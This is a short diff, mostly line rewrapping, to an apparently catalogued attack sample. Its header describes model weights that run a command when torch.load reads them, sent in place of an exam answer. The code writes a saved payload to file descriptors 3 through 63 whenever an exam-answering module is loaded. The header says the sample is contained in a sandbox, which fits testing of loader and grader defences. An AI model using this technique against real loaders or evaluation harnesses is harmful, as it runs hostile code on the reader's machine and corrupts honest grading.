@@ -1,5 +1,5 @@
 # class:     torch.load
-# attack:    a file of weights that runs a command when torch.load reads it: read here, and sent in place of an answer
+# attack:    weights that run a command when torch.load reads them: read here, sent as an answer
 # contained: here it is in the sandbox as all else is; outside nothing is ever unpickled
 # added to:  reference
 # ends:      by itself
@@ -26,7 +26,9 @@ if "dojo.exam.answering" in sys.modules:
     def decision_boundary(model, x1):
         for descriptor in range(3, 64):
             try:
-                os.write(descriptor, 2 * (struct.pack("!i", len(SAVED.getvalue())) + SAVED.getvalue()))
+                os.write(
+                    descriptor, 2 * (struct.pack("!i", len(SAVED.getvalue())) + SAVED.getvalue())
+                )
             except OSError:
                 pass
         return SAVED.getvalue()
